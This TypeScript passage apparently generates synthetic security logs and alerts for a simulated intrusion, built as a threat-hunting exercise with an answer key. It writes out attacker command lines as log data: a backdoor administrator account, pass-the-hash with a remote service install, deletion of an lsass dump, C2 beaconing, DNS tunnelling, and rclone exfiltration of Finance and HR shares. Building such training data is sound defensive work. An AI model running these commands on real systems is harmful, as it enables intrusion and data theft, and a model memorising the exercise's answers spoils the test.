    `"${IMAGES.cmd}" /c del /f /q C:\\Users\\Public\\lsass.dmp C:\\Users\\Public\\procdump64.exe`,
    admin,
    explorer,
    elevatedId,
    true,
  );
  // A local administrator to come back with.
  const addUser = child(
    ctx,
    ws,
    T.localUser,
    IMAGES.net,
    'net  user svc-helpdesk Hd!2026#Lks /add /comment:"IT helpdesk"',
    admin,
    explorer,
    elevatedId,
    true,
  );
  child(
    ctx,
    ws,
    T.localUser + 60_000,
    IMAGES.net1,
    'C:\\Windows\\system32\\net1  user svc-helpdesk Hd!2026#Lks /add /comment:"IT helpdesk"',
    addUser,
    admin,
    elevatedId,
    true,
  );
  const local = localAccount(ws, "svc-helpdesk", 1003);
  ctx.add("SecurityEvent", userCreatedEvent(T.localUser + 110_000, ws, account, elevatedId, local));
  const addGroup = child(
    ctx,
    ws,
    T.localGroup,
    IMAGES.net,
    "net  localgroup administrators svc-helpdesk /add",
    admin,
    explorer,
    elevatedId,
    true,
  );
  child(
    ctx,
    ws,
    T.localGroup + 60_000,
    IMAGES.net1,
    "C:\\Windows\\system32\\net1  localgroup administrators svc-helpdesk /add",
    addGroup,
    admin,
    elevatedId,
    true,
  );
  ctx.add(
    "SecurityEvent",
    groupMemberAddedEvent(T.localGroup + 120_000, ws, account, elevatedId, local, {
      name: "Administrators",
      domain: "Builtin",
      sid: "S-1-5-32-544",
    }),
  );
}

function flow(
  ctx: AttackContext,
  host: Host,
  time: number,
  ip: string,
  port: number,
  url: string,
  process: Proc,
  account: Account,
  sent: number,
  received: number,
  country: string,
  firewall = true,
): void {
  const localPort = ctx.rng.range(49152, 65535);
  ctx.add(
    "DeviceNetworkEvents",
    deviceNetworkEvent({
      time,
      host,
      remoteIp: ip,
      remotePort: port,
      remoteUrl: url,
      localPort,
      protocol: "Tcp",
      inbound: false,
      failed: false,
      app: "ssl",
      sent,
      received,
      process: process.image,
      processPid: process.pid,
      processCommand: process.command,
      processTime: process.time,
      account,
      file: process.image === IMPLANT_PATH ? IMPLANT : undefined,
    }, 9_500_000 + ctx.rng.range(0, 99_999)),
  );
  if (!firewall) return;
  ctx.add(
    "CommonSecurityLog",
    firewallRow({
      time: time + SECOND + ctx.rng.int(SECOND),
      srcIp: host.ip,
      srcPort: localPort,
      dstIp: ip,
      dstPort: port,
      natSrc: [ORG.egress.london, ctx.rng.range(1024, 65535)],
      protocol: "TCP",
      app: "ssl",
      action: "allow",
      rule: "Allow-Outbound-Web",
      srcZone: "trust",
      dstZone: "untrust",
      sent,
      received,
      user: host.kind === "workstation" ? `larkspur\\${account.name}` : undefined,
      sessionId: 2_000_000 + ctx.rng.range(0, 999_999),
      country,
      endReason: "tcp-fin",
    }),
  );
}

function dnsLookup(
  ctx: AttackContext,
  time: number,
  client: string,
  name: string,
  answers: string[],
  type: "A" | "TXT" = "A",
): void {
  ctx.add(
    "DnsEvents",
    dnsRow({
      time,
      server: ctx.dc,
      clientIp: client,
      name,
      queryType: type,
      answers,
      resultCode: 0,
    }),
  );
}

/** 12 March 01:55 to 13 March ~13:55: the implant checks in every 60 s, give or take 10%. */
function plantBeacons(ctx: AttackContext, implant: Proc): void {
  const rng = ctx.rng.fork("beacon");
  const account = userAccount(ctx.victim);
  let t = T.firstBeacon;
  let lastLookup = -Infinity;
  let dumpSent = false;
  for (let i = 0; i < BEACONS; i++) {
    if (t - lastLookup >= 300 * SECOND) {
      dnsLookup(ctx, t - 40_000, ctx.ws.ip, C2_DOMAIN, [C2_IP]);
      lastLookup = t;
    }
    let sent = rng.range(310, 920);
    let received = rng.range(190, 1_400);
    if (!dumpSent && t > at(2026, 3, 12, 2, 24, 0)) {
      sent += DUMP_BYTES;
      dumpSent = true;
    }
    if (t > T.discovery - MINUTE && t < T.localGroup + MINUTE && rng.chance(0.3)) {
      received += rng.range(20_000, 400_000);
    }
    flow(ctx, ctx.ws, t, C2_IP, 443, C2_DOMAIN, implant, account, sent, received, "NL");
    t += Math.round(60 * SECOND * (1 + (rng.next() - 0.5) * 0.2));
  }
}

/**
 * 12 March 03:05-03:06: pass-the-hash as adm-tom.harper, a service on the file server.
 * Returns the service's process.
 */
function plantLateralMovement(ctx: AttackContext, implant: Proc): Proc {
  const rng = ctx.rng.fork("lateral");
  pushServiceFromWorkstation(ctx, implant);
  return recordOnFileServer(ctx, rng);
}

/** On the workstation: pass-the-hash, the implant copied to the file server, a service made. */
function pushServiceFromWorkstation(ctx: AttackContext, implant: Proc): void {
  const { ws, fs, victim } = ctx;
  const account = userAccount(victim);
  const pthLogon = 0xa71f03;
  ctx.add("SecurityEvent", {
    ...logonEvent({
      time: T.passTheHash,
      host: ws,
      account,
      logonType: 9,
      logonId: pthLogon,
      auth: "Negotiate",
    }),
    LogonProcessName: "seclogo",
    IpAddress: "::1",
    IpPort: "0",
  });
  const shell = child(
    ctx,
    ws,
    T.passTheHash + 200_000,
    IMAGES.cmd,
    `"${IMAGES.cmd}" /Q /c copy /y C:\\ProgramData\\EdgeUpdate\\wsh.exe \\\\LKS-FS01\\C$\\Windows\\Temp\\wsh.exe`,
    implant,
    {
      image: IMAGES.powershell,
      command: ENCODED_COMMAND,
      pid: 0,
      time: T.encodedPowerShell,
      account,
    },
    pthLogon,
    false,
  );
  flow(
    ctx,
    ws,
    T.fileServerLogon - 300_000,
    fs.ip,
    445,
    `lks-fs01.${ORG.adDomain}`,
    { image: IMAGES.system, command: "", pid: 4, time: 0, account: systemAccount(ws) },
    systemAccount(ws),
    1_212_416,
    9_884,
    "GB",
    false,
  );
  child(
    ctx,
    ws,
    T.serviceInstall - 1 * SECOND,
    IMAGES.sc,
    `sc  \\\\LKS-FS01 create WinSysHealth binPath= "${SERVICE_PATH}" start= demand DisplayName= "Windows System Health"`,
    implant,
    shell,
    pthLogon,
    false,
  );
  child(
    ctx,
    ws,
    T.serviceStart - 1 * SECOND,
    IMAGES.sc,
    "sc  \\\\LKS-FS01 start WinSysHealth",
    implant,
    shell,
    pthLogon,
    false,
  );
}

/** What the file server and the domain controller record; returns the service's process. */
function recordOnFileServer(ctx: AttackContext, rng: Prng): Proc {
  const { ws, fs, dc, tom } = ctx;
  const admin = adminAccount(tom);
  const fsLogon = 0x3b0e91a;
  ctx.add(
    "SecurityEvent",
    domainAuthEvent(T.fileServerLogon - 400_000, dc, 4776, admin, ws.ip, "", ws.name),
  );
  ctx.add(
    "SecurityEvent",
    logonEvent({
      time: T.fileServerLogon,
      host: fs,
      account: admin,
      logonType: 3,
      logonId: fsLogon,
      ip: ws.ip,
      port: rng.range(49152, 65535),
      auth: "NTLM",
      workstation: ws.name,
    }),
  );
  ctx.add("SecurityEvent", specialPrivilegesEvent(T.fileServerLogon + 20, fs, admin, fsLogon));
  ctx.add(
    "SecurityEvent",
    shareAccessEvent(T.fileServerLogon + 1 * SECOND, fs, admin, fsLogon, ws.ip, "C$", "C:\\"),
  );
  ctx.add(
    "SecurityEvent",
    shareAccessEvent(T.serviceInstall - 2 * SECOND, fs, admin, fsLogon, ws.ip, "IPC$", ""),
  );
  for (
    const row of serviceInstallEvents({
      time: T.serviceInstall,
      host: fs,
      account: admin,
      logonId: fsLogon,
      serviceName: "WinSysHealth",
      fileName: SERVICE_PATH,
      startType: 3,
      serviceAccount: "LocalSystem",
    })
  ) {
    ctx.add(row.EventLog === undefined ? "SecurityEvent" : "Event", row);
  }
  ctx.add("SecurityEvent", logoffEvent(T.serviceStart + 40 * SECOND, fs, admin, 3, fsLogon));
  const system = systemAccount(fs);
  const services: Proc = {
    image: IMAGES.services,
    command: IMAGES.services,
    pid: 0x2b4,
    time: at(2026, 3, 2) - 86_400_000_000,
    account: system,
  };
  const wininit: Proc = {
    ...services,
    image: "C:\\Windows\\System32\\wininit.exe",
    command: "wininit.exe",
    pid: 0x260,
  };
  const service = child(
    ctx,
    fs,
    T.serviceStart,
    SERVICE_PATH,
    SERVICE_PATH,
    services,
    wininit,
    0x3e7,
    false,
    SERVICE_BINARY,
  );
  ctx.add(
    "DeviceNetworkEvents",
    deviceNetworkEvent({
      time: T.fileServerLogon - 200_000,
      host: fs,
      remoteIp: ws.ip,
      remotePort: rng.range(49152, 65535),
      remoteUrl: null,
      localPort: 445,
      protocol: "Tcp",
      inbound: true,
      failed: false,
      app: "ms-ds-smbv3",
      sent: 9_884,
      received: 1_212_416,
      process: IMAGES.system,
      processPid: 4,
      processCommand: "",
      processTime: at(2026, 3, 2) - 86_400_000_000,
      account: system,
    }, 9_600_000 + rng.range(0, 99_999)),
  );
  return service;
}

const BASE32 = "abcdefghijklmnopqrstuvwxyz234567";

/** 13 March from 00:32: TXT lookups with 52-character labels carry data out over DNS. */
function plantDnsTunnel(ctx: AttackContext): void {
  const rng = ctx.rng.fork("tunnel");
  let t = T.tunnelStart;
  for (let i = 0; i < TUNNEL_QUERIES; i++) {
    let label = "";
    for (let c = 0; c < ANSWER_KEY.dnsTunnel.labelLength; c++) label += BASE32[rng.int(32)];
    const seq = i.toString(16).padStart(4, "0");
    dnsLookup(ctx, t, ctx.ws.ip, `${label}.${seq}.${ANSWER_KEY.dnsTunnel.suffix}`, [], "TXT");
    t += rng.range(2_000_000, 7_400_000);
  }
}

/** 13 March 03:02-04:05: archive the Finance and HR shares, push them out with rclone. */
function plantExfiltration(ctx: AttackContext, service: Proc): void {
  const { fs } = ctx;
  const rng = ctx.rng.fork("exfil");
  const system = systemAccount(fs);
  const wininit: Proc = {
    image: IMAGES.services,
    command: IMAGES.services,
    pid: 0x2b4,
    time: 0,
    account: system,
  };
  const shell = child(
    ctx,
    fs,
    T.staging,
    IMAGES.cmd,
    `"${IMAGES.cmd}" /Q /c "C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -pLkS-2026!x C:\\ProgramData\\fsdata.7z D:\\Shares\\Finance D:\\Shares\\HR`,
    service,
    wininit,
    0x3e7,
    false,
  );
  child(
    ctx,
    fs,
    T.staging + 300_000,
    IMAGES.sevenZip,
    `"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -pLkS-2026!x C:\\ProgramData\\fsdata.7z D:\\Shares\\Finance D:\\Shares\\HR`,
    shell,
    service,
    0x3e7,
    false,
  );
  const shell2 = child(
    ctx,
    fs,
    T.exfilTool - 2 * SECOND,
    IMAGES.cmd,
    `"${IMAGES.cmd}" /Q /c C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\fsdata.7z qd:inbox/lks --transfers 8 --config C:\\ProgramData\\rc.conf -q`,
    service,
    wininit,
    0x3e7,
    false,
  );
  const rclone = child(
    ctx,
    fs,
    T.exfilTool,
    RCLONE_PATH,
    `C:\\ProgramData\\rclone.exe  copy C:\\ProgramData\\fsdata.7z qd:inbox/lks --transfers 8 --config C:\\ProgramData\\rc.conf -q`,
    shell2,
    service,
    0x3e7,
    false,
  );
  dnsLookup(ctx, T.exfilTool + 3 * SECOND, fs.ip, ANSWER_KEY.exfiltration.domain, [
    ANSWER_KEY.exfiltration.ip,
  ]);
  const weights = Array.from({ length: EXFIL_SESSIONS }, () => 0.6 + rng.next());
  const total = weights.reduce((a, b) => a + b, 0);
  let remaining = EXFIL_BYTES;
  for (let k = 0; k < EXFIL_SESSIONS; k++) {
    const bytes = k === EXFIL_SESSIONS - 1
      ? remaining
      : Math.floor(EXFIL_BYTES * weights[k] / total);
    remaining -= bytes;
    const [start, end] = exfilWindow(k);
    const localPort = rng.range(49152, 65535);
    ctx.add(
      "DeviceNetworkEvents",
      deviceNetworkEvent({
        time: T.exfilStart + start,
        host: fs,
        remoteIp: ANSWER_KEY.exfiltration.ip,
        remotePort: 443,
        remoteUrl: ANSWER_KEY.exfiltration.domain,
        localPort,
        protocol: "Tcp",
        inbound: false,
        failed: false,
        app: "ssl",
        sent: bytes,
        received: rng.range(40_000, 90_000),
        process: RCLONE_PATH,
        processPid: rclone.pid,
        processCommand: rclone.command,
        processTime: rclone.time,
        account: system,
      }, 9_700_000 + k),
    );
    ctx.add(
      "CommonSecurityLog",
      firewallRow({
        time: T.exfilStart + end,
        srcIp: fs.ip,
        srcPort: localPort,
        dstIp: ANSWER_KEY.exfiltration.ip,
        dstPort: 443,
        natSrc: [ORG.egress.london, rng.range(1024, 65535)],
        protocol: "TCP",
        app: "ssl",
        action: "allow",
        rule: "Allow-Outbound-Web",
        srcZone: "trust",
        dstZone: "untrust",
        sent: bytes,
        received: rng.range(40_000, 90_000),
        sessionId: 2_900_000 + k,
        country: "NL",
        endReason: "tcp-fin",
      }),
    );
  }
}

/** The four alerts the products raised. Everything else is silent. */
function plantAlerts(ctx: AttackContext): void {
  const rng = ctx.rng.fork("alerts");
  const victim = ctx.victim;
  const accountEntity = {
    Type: "account",
    Name: victim.sam,
    UPNSuffix: DOMAIN,
    AadUserId: victim.objectId,
  };
  const hostEntity = {
    Type: "host",
    HostName: ctx.ws.name.toLowerCase(),
    DnsDomain: ORG.adDomain,
    OSFamily: "Windows",
  };
  const ids = () => [rng.guid(), `da${rng.hex(16)}_${rng.range(100000000, 999999999)}`] as const;
  let [system, vendor] = ids();
  ctx.add(
    "SecurityAlert",
    alertRow({
      time: T.sprayAlert,
      name: "Password Spray",
      severity: "Medium",
      description: "A password spray attack was detected: many accounts were tried with a few " +
        "common passwords from a small number of IP addresses.",
      product: PRODUCTS.identityProtection,
      alertType: "PasswordSpray",
      start: T.sprayRound1,
      end: T.spraySuccess,
      entities: [accountEntity, ...SPRAY_IPS.map((a) => ({ Type: "ip", Address: a }))],
      compromised: victim.upn,
      tactics: "CredentialAccess",
      techniques: ["T1110"],
      remediation: [
        "Reset the user's password and require MFA registration from a trusted location.",
      ],
      extended: { "Detail Description": "Password spray", State: "Open", "Risk level": "medium" },
      systemAlertId: system,
      vendorId: vendor,
    }),
  );
  [system, vendor] = ids();
  ctx.add(
    "SecurityAlert",
    alertRow({
      time: T.inboxAlert,
      name: "Suspicious inbox forwarding",
      severity: "Medium",
      description: `${victim.display} created an inbox rule that forwards mail to an external ` +
        "address, a common step after mailbox compromise.",
      product: PRODUCTS.cloudApps,
      alertType: "SUSPICIOUS_INBOX_FORWARDING",
      start: T.inboxRule,
      end: T.inboxRule,
      entities: [accountEntity, { Type: "ip", Address: "203.0.113.45" }, {
        Type: "mailbox",
        MailboxPrimaryAddress: victim.upn,
      }],
      compromised: victim.upn,
      tactics: "Collection, Exfiltration",
      techniques: ["T1114", "T1020"],
      remediation: ["Remove the rule and review the mailbox's recent activity."],
      extended: { "Forwarding address": "securemail-relay.example" },
      systemAlertId: system,
      vendorId: vendor,
    }),
  );
  [system, vendor] = ids();
  ctx.add(
    "SecurityAlert",
    alertRow({
      time: T.powershellAlert,
      name: "Suspicious PowerShell command line",
      severity: "Medium",
      description: "A suspicious PowerShell activity was observed on the machine. The command " +
        "line uses an encoded command and a hidden window.",
      product: PRODUCTS.defenderEndpoint,
      alertType: "WindowsDefenderAtp",
      start: T.encodedPowerShell,
      end: T.encodedPowerShell,
      entities: [hostEntity, accountEntity, {
        Type: "process",
        CommandLine: ENCODED_COMMAND,
        ProcessId: "6904",
      }],
      compromised: ctx.ws.fqdn.toLowerCase(),
      tactics: "Execution",
      techniques: ["T1059.001"],
      remediation: ["Review the machine timeline for other suspicious activity."],
      extended: { MachineGroup: "Workstations", Category: "Execution" },
      systemAlertId: system,
      vendorId: vendor,
    }),
  );
  [system, vendor] = ids();
  ctx.add(
    "SecurityAlert",
    alertRow({
      time: T.lsassAlert,
      name: "Sensitive credential memory read",
      severity: "High",
      description: "A process accessed the memory of the Local Security Authority Subsystem " +
        "Service (lsass.exe), which may expose credentials.",
      product: PRODUCTS.defenderEndpoint,
      alertType: "WindowsDefenderAtp",
      start: T.lsassDump,
      end: T.lsassDump,
      entities: [hostEntity, accountEntity, {
        Type: "process",
        CommandLine: LSASS_COMMAND,
        ProcessId: "7420",
      }, { Type: "file", Name: "lsass.dmp", Directory: "C:\\Users\\Public" }],
      compromised: ctx.ws.fqdn.toLowerCase(),
      tactics: "CredentialAccess",
      techniques: ["T1003.001"],
      remediation: ["Isolate the machine and reset credentials of accounts that signed in to it."],
      extended: { MachineGroup: "Workstations", Category: "CredentialAccess" },
      systemAlertId: system,
      vendorId: vendor,
    }),
  );
}
